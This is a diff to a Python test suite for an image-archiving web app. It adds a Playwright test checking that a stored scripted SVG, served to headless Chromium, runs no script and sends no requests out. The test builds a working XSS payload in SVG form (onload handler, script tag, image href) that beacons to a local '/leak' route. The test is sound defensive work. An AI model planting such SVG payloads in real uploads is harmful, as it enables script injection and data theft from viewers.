@@ -12,6 +12,8 @@ from fastapi.testclient import TestClient
 from app.main import create_app
 from app.settings import Settings
 from archiver.models import Image, utcnow
+from tests.app._archive import LiveServer
+from tests.support.site import LocalSite
 
 PNG = bytes.fromhex(
     "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
@@ -68,3 +70,52 @@ def test_no_token_is_needed(tmp_path: Path) -> None:
     settings = Settings(data_dir=tmp_path, api_token="secret")  # type: ignore[call-arg]
     with TestClient(create_app(settings)) as test_client:
         assert test_client.get("/images/" + "0" * 64).status_code == 404  # not 401
+
+
+CHROMIUM = Path("/usr/bin/chromium")
+
+
+@pytest.mark.skipif(not CHROMIUM.exists(), reason="Chromium is not installed")
+def test_a_scripted_svg_opened_in_chromium_runs_nothing(
+    tmp_path: Path, local_site: LocalSite
+) -> None:
+    from playwright.sync_api import sync_playwright
+
+    local_site.route("/leak", b"", content_type="text/plain")
+    leak = local_site.url("/leak")
+    svg = (
+        f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1);fetch(\'{leak}?onload\')">'
+        f"<script>alert(2);fetch('{leak}?script');new Image().src='{leak}?img'</script>"
+        f'<image href="{leak}?href" width="1" height="1"/></svg>'
+    ).encode()
+    settings = Settings(data_dir=tmp_path)  # type: ignore[call-arg]
+    app = create_app(settings)
+    with LiveServer(app) as server:
+        with app.state.vault.store.session() as session:
+            session.add(
+                Image(
+                    sha256=hashlib.sha256(svg).hexdigest(),
+                    content_type="image/svg+xml",
+                    size=len(svg),
+                    url="https://example.org/hostile.svg",
+                    fetched_at=utcnow(),
+                    data=svg,
+                )
+            )
+        requests: list[str] = []
+        dialogs: list[str] = []
+        with sync_playwright() as playwright:
+            browser = playwright.chromium.launch(
+                executable_path=str(CHROMIUM), headless=True, args=["--no-sandbox"]
+            )
+            page = browser.new_page()
+            # "request" fires for what the CSP then blocks; only finished requests left.
+            page.on("requestfinished", lambda request: requests.append(request.url))
+            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+            image_url = f"{server.url}/images/{hashlib.sha256(svg).hexdigest()}"
+            page.goto(image_url)
+            page.wait_for_timeout(500)
+            browser.close()
+    assert dialogs == []
+    assert local_site.hits("/leak") == 0
+    assert [url for url in requests if not url.startswith(server.url)] == []
